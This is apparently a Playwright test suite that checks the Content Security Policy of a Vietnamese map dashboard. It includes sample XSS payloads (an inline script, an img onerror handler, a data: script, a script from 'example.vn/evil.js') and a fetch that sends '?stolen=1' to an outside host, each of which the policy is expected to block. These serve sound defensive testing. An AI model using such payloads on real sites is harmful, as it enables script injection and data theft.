"""What browsers are told they may load: every page lives with it, and what a stranger slips into a page does not."""

from __future__ import annotations

import re

import pytest

from render.screen.menu import PAGES

from .conftest import Visitor
from .dashboard import Dashboard
from .process import get

#: Kept where a test can ask for it, from before the first script of a page.
LISTEN = """
window.testRefused = [];
document.addEventListener('securitypolicyviolation', (event) => {
  window.testRefused.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});
"""
REFUSED = "() => window.testRefused"
INLINE = """() => {
  const script = document.createElement('script');
  script.textContent = 'window.testInjected = "script"';
  document.body.append(script);
}"""
HANDLER = """() => {
  const holder = document.createElement('div');
  holder.innerHTML = '<img src="data:," onerror="window.testInjected = 1">';
  document.body.append(holder);
}"""
DATA = """() => {
  const script = document.createElement('script');
  script.src = 'data:text/javascript,window.testInjected=1';
  document.body.append(script);
}"""
OUTSIDE = """() => {
  const script = document.createElement('script');
  script.src = 'https://example.vn/evil.js';
  document.body.append(script);
}"""
SENT_AWAY = "() => fetch('https://example.vn/?stolen=1', { mode: 'no-cors' }).catch(() => {})"
EVALUATED = "() => { try { return Function('return 1')(); } catch { return 'refused'; } }"


@pytest.fixture
def listening(dashboard: Dashboard) -> Dashboard:
    """Return a visitor whose pages write down what they were refused."""
    dashboard.page.add_init_script(LISTEN)
    return dashboard


@pytest.mark.parametrize("page", [page for page, _, _ in PAGES])
def test_every_page_lives_with_the_policy(listening: Dashboard, page: str) -> None:
    listening.open(page)
    assert listening.page.evaluate(REFUSED) == []


def test_going_through_the_menu_stays_within_the_policy(listening: Dashboard) -> None:
    listening.open("ban-do")
    for page, _, _ in PAGES[1:]:
        listening.go(page)
    assert listening.page.evaluate(REFUSED) == []


def test_printing_stays_within_the_policy(listening: Dashboard) -> None:
    listening.page.add_init_script("window.print = () => { window.testPrinted = true; };")
    listening.open("ban-do", district="610")
    listening.at("print").click()
    listening.page.wait_for_function("() => window.testPrinted")
    image = listening.page.locator("img.print-sheet")
    assert image.evaluate("(image) => image.complete && image.naturalWidth > 0")
    assert listening.page.evaluate(REFUSED) == []


@pytest.mark.parametrize(
    ("script", "directive"),
    [
        (INLINE, "script-src-elem inline"),
        (HANDLER, "script-src-attr inline"),
        (DATA, "script-src-elem data"),
        (OUTSIDE, "script-src-elem https://example.vn/evil.js"),
        (SENT_AWAY, "connect-src https://example.vn/"),
    ],
)
def test_what_a_stranger_slips_in_does_not_run(listening: Dashboard, script: str, directive: str) -> None:
    listening.open("ban-do")
    listening.page.evaluate(script)
    listening.page.wait_for_function("() => window.testRefused.length > 0")
    assert any(refused.startswith(directive) for refused in listening.page.evaluate(REFUSED))
    assert listening.page.evaluate("() => window.testInjected") is None
    forget_refusals(listening)


def test_text_is_never_run_as_a_script(listening: Dashboard) -> None:
    listening.open("ban-do")
    script = f"window.testEvaluated = ({EVALUATED})()"
    blob = f"URL.createObjectURL(new Blob([{script!r}], {{ type: 'text/javascript' }}))"
    listening.page.evaluate(f"() => import({blob})")
    assert listening.page.evaluate("() => window.testEvaluated") == "refused"
    forget_refusals(listening)


def forget_refusals(dashboard: Dashboard) -> None:
    """Drop what the console and the list of addresses say of what the test wants to be refused."""
    watch = dashboard.watch
    watch.faults = [fault for fault in watch.faults if "Content Security Policy" not in fault]
    watch.outside = [address for address in watch.outside if "//example.vn/" not in address]


@pytest.mark.parametrize(
    "path",
    [
        "/ogc",
        "/ogc/conformance",
        "/ogc/openapi",
        "/ogc/collections",
        "/ogc/collections/ntm-levels-kontum-2015",
        "/ogc/collections/ntm-levels-kontum-2015/items",
        "/ogc/collections/ntm-levels-kontum-2015/items/23353",
    ],
)
def test_pages_of_the_service_load_their_style_and_nothing_else(listening: Dashboard, path: str) -> None:
    answer = listening.page.goto(listening.address + path)
    assert answer is not None
    assert answer.ok
    assert "script-src" not in answer.headers["content-security-policy"]
    assert listening.page.evaluate(REFUSED) == []


def test_a_sheet_opened_by_itself_has_its_colours(listening: Dashboard) -> None:
    answer = listening.page.goto(f"{listening.address}/maps/ntm-levels.svg")
    assert answer is not None
    assert answer.ok
    assert listening.page.evaluate(REFUSED) == []
    filled = listening.page.evaluate("() => getComputedStyle(document.querySelector('path[style*=fill]')).fill")
    assert re.fullmatch(r"rgb\(.*\)", filled)


def test_an_address_that_is_no_page_is_told_in_the_page_s_own_style(visitor: Visitor) -> None:
    dashboard = visitor()
    dashboard.page.add_init_script(LISTEN)
    answer = dashboard.page.goto(f"{dashboard.address}/<b>không-có</b>")
    assert answer is not None
    assert answer.status == 404
    assert dashboard.page.evaluate(REFUSED) == []
    assert dashboard.page.evaluate("() => getComputedStyle(document.body).maxWidth") != "none"
    assert dashboard.page.locator("b").count() == 0
    dashboard.watch.faults = [fault for fault in dashboard.watch.faults if "404" not in fault]


def test_only_the_scripts_of_the_page_itself_are_allowed_by_their_hash(dashboard: Dashboard) -> None:
    answer = dashboard.page.goto(f"{dashboard.address}/ban-do")
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    scripts = policy.split("script-src", 1)[1].split(";", 1)[0]
    assert "'unsafe-inline'" not in scripts
    assert "'unsafe-eval'" not in scripts
    inline = re.findall(rb"<script(?![^>]*\ssrc)[^>]*>", get(f"{dashboard.address}/ban-do"))
    assert scripts.count("'sha256-") == len(inline) == 2
    dashboard.settled()
